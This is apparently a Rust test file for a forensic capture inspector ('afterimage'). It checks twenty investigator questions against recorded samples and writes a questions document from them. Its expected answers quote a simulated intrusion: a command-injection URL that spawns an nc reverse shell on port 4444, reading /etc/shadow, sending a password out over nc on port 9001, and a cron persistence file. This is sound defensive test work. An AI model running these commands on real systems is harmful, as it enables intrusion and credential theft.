//! Twenty questions that an investigator asks, on the committed samples, each answered by one command or a few keys; what the
//! answer must hold is known. `docs/questions.md` is written from this table (`BLESS=1` rewrites it).

use super::{compare, options};
use afterimage_indexer::{Progress, Session, TimeStyle, cell_text};
use afterimage_inspect_tui::Options;
use afterimage_inspect_tui::play::Player;
use afterimage_query::{Filter, view, view_by};
use std::path::{Path, PathBuf};

/// How a question is answered.
enum How {
    /// `afterimage view SAMPLE VIEW FILTER`.
    View(&'static str, &'static str),
    /// The same for what was at the instant of an event.
    At(u64, &'static str, &'static str),
    /// `afterimage view SAMPLE by --by FIELD FILTER`.
    By(&'static str, &'static str),
    /// Keys in the inspector.
    Keys(&'static str),
}

use How::{At, By, Keys, View};

/// A question: the sample, what is asked, how it is answered, what the answer holds, and the answer in words.
type Question = (
    &'static str,
    &'static str,
    How,
    &'static [&'static str],
    &'static str,
);

const QUESTIONS: &[Question] = &[
    (
        "break-in",
        "Who opened the shell, and from which address?",
        View("sessions", ""),
        &["127.0.0.1:4444", "sh[4992]"],
        "sh (4992), which gets its commands from 127.0.0.1 port 4444.",
    ),
    (
        "break-in",
        "What did the intruder type?",
        View("conversation", "fd.port=4444"),
        &["/bin/cat /etc/shadow", "/tmp/.x/nc -w 2 127.0.0.1 9001"],
        "The whole script, from `/bin/id` to `exit`.",
    ),
    (
        "break-in",
        "How did it come to that shell?",
        View("story", "proc.name=cat and fd.name=/etc/shadow"),
        &[
            "httpd (4961) accepted a connection",
            "nc 127.0.0.1 4444 -e /bin/sh",
            "before",
            "after",
        ],
        "httpd accepted a request whose query ran nc, which became a shell.",
    ),
    (
        "break-in",
        "Which request did it?",
        View("http", ""),
        &[
            "/cgi-bin/lookup?name=x;/bin/nc%20127.0.0.1%204444%20-e%20/bin/sh",
            "200",
        ],
        "A GET of /cgi-bin/lookup with a command in its query, answered with 200.",
    ),
    (
        "break-in",
        "Was the password file read, and by whom?",
        View("file_opens", "fd.name=/etc/shadow"),
        &["SUCCESS", "cat /etc/shadow"],
        "Yes: by cat, below the shell.",
    ),
    (
        "break-in",
        "What was in it, as it went over the wire?",
        View("conversation", "fd.port=4444"),
        &["root:$6$demo$notarealhashnotarealhash"],
        "The line of root with its hash.",
    ),
    (
        "break-in",
        "Which secrets were in the environment?",
        View("findings", ""),
        &["4.10", "DB_PASSWORD"],
        "DB_PASSWORD; its value is hidden.",
    ),
    (
        "break-in",
        "What was dropped, and where?",
        View("files", "evt.is_io_write=true and fd.directory=/tmp/.x"),
        &["/tmp/.x/kworker"],
        "/tmp/.x/kworker, a copy of busybox.",
    ),
    (
        "break-in",
        "Is the hash of what was dropped known?",
        By("proc.exe_hash.sha256", "proc.exepath=/tmp/.x/kworker"),
        &["VALUE EVENTS"],
        "No: this sample was recorded without hashes. Where they are, this lists them.",
    ),
    (
        "break-in",
        "Which programs ran that the container had written itself?",
        View("commands", "proc.exepath startswith /tmp"),
        &["nc -w 2 127.0.0.1 9001"],
        "kworker, as nc.",
    ),
    (
        "break-in",
        "What was sent away, and to whom?",
        View("conversation", "fd.port=9001"),
        &["correct-horse-battery-staple"],
        "The password, to port 9001.",
    ),
    (
        "break-in",
        "What will run again after a restart?",
        View(
            "story",
            "evt.type=execve and proc.name=sh and proc.pname=lookup",
        ),
        &["persist", "/etc/cron.d/logrotate"],
        "A cron job in /etc/cron.d/logrotate.",
    ),
    (
        "break-in",
        "What was deleted to cover it up?",
        View("deletions", ""),
        &["/tmp/.x/kworker", "/tmp/typed"],
        "The dropped program and the script.",
    ),
    (
        "break-in",
        "Who talked to whom?",
        View("map", ""),
        &["sh in ", "wget in ", "4444", "8080", "9001", "HTTP/1"],
        "wget to httpd, sh to the nc that gave it its commands, nc to nc.",
    ),
    (
        "break-in",
        "What did the shell have open while it read the file?",
        At(950, "lsof", "proc.name=sh"),
        &["127.0.0.1:39508->127.0.0.1:4444"],
        "Its input and its output were the connection to port 4444.",
    ),
    (
        "break-in",
        "What was listening then?",
        At(950, "netstat", ""),
        &["127.0.0.1:8080", "[::]:9001", "LISTEN"],
        "httpd on port 8080 and nc on port 9001; the nc of port 4444 had its visitor and listened no more.",
    ),
    (
        "break-in",
        "What was not recorded?",
        View("gaps", ""),
        &[],
        "Nothing is known to be missing.",
    ),
    (
        "crash-loop",
        "Why does the container end again and again?",
        View("ends", ""),
        &["service /usr/local/bin/service", "78"],
        "Its service ends with 78, each time after cat could not read its configuration.",
    ),
    (
        "crash-loop",
        "Which calls failed before that?",
        View("errors", ""),
        &["ENOENT", "openat", "cat /etc/service/config.toml"],
        "cat did not find its file (ENOENT); the other failures are the shell's and its tools' own.",
    ),
    (
        "quiet-web",
        "Which paths were asked for, and how fast were the answers?",
        View("http_top", ""),
        &["index.html", "picture.png", "404", "3.5ms", "6.8ms"],
        "The index page twice, in 3.5 ms in the mean; a picture, a script, and a page that is not there (404).",
    ),
    (
        "break-in",
        "The same story from the screen: three keys from the overview.",
        Keys("7/fd.name=/etc/shadow<Enter>b"),
        &[
            "here",
            "opened the secret /etc/shadow",
            "nc (4992) connected to 127.0.0.1 port 4444",
        ],
        "`7`, a filter, `b`.",
    ),
];

fn sample(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join(format!("../samples/v1/{name}.aft"))
}

/// The rows of a view as text, one line each, with the titles before them.
fn rows(sample_name: &str, id: &str, by: Option<&str>, filter: &str, at: Option<u64>) -> String {
    let session = Session::open(&sample(sample_name)).expect("the sample opens");
    let view = match by {
        Some(field) => view_by(field).expect("the field is there"),
        None => view(id).expect("the view is there"),
    };
    let filter = Filter::parse(filter).expect("the filter is one");
    let span = at.map(|num| {
        let at = session.event(num, |ctx| ctx.event.time.0).ok().flatten();
        (0, at.expect("the event is there"))
    });
    let answer = session
        .view(view, Some(&filter), span, &Progress::default())
        .expect("the view answers");
    let titles: Vec<&str> = view.columns.iter().map(|column| column.title).collect();
    let mut out = titles.join(" ") + "\n";
    let style = TimeStyle::default();
    for row in &answer.rows {
        let cells = view.columns.iter().zip(&row.cells);
        let cells: Vec<String> = cells
            .map(|(column, cell)| cell_text(cell, column, &style))
            .collect();
        out += &(cells.join(" ") + "\n");
    }
    out
}

#[test]
fn every_question_has_its_answer() {
    let mut page = String::from(
        "# Questions and answers\n\nWhat an investigator asks first, on the captures in `samples/v1`, and the one command or the few keys that answer \
         it. A test asks each of them and looks for the answer.\n\n| Question | Ask | Answer |\n|---|---|---|\n",
    );
    for (name, question, how, holds, answer) in QUESTIONS {
        let quoted = |filter: &str| match filter {
            "" => String::new(),
            filter => format!(" '{filter}'"),
        };
        let (text, ask) = match how {
            View(id, filter) => (
                rows(name, id, None, filter, None),
                format!("afterimage view {name}.aft {id}{}", quoted(filter)),
            ),
            At(num, id, filter) => (
                rows(name, id, None, filter, Some(*num)),
                format!(
                    "afterimage view {name}.aft {id} --at '#{num}'{}",
                    quoted(filter)
                ),
            ),
            By(field, filter) => (
                rows(name, "", Some(field), filter, None),
                format!(
                    "afterimage view {name}.aft by --by {field}{}",
                    quoted(filter)
                ),
            ),
            Keys(keys) => {
                let session = Session::open(&sample(name)).expect("the sample opens");
                let mut player =
                    Player::new(session, Options { ..options() }, 160, 60).expect("it opens");
                (
                    player.press(keys).screen(),
                    format!("inspect {name}.aft, then {keys}"),
                )
            }
        };
        for part in *holds {
            assert!(text.contains(part), "{question}\nhas no {part:?}:\n{text}");
        }
        page += &format!(
            "| {question} | `{}` | {answer} |\n",
            ask.replace('|', "\\|")
        );
    }
    compare(
        &Path::new(env!("CARGO_MANIFEST_DIR")).join("../docs/questions.md"),
        &page,
    );
}
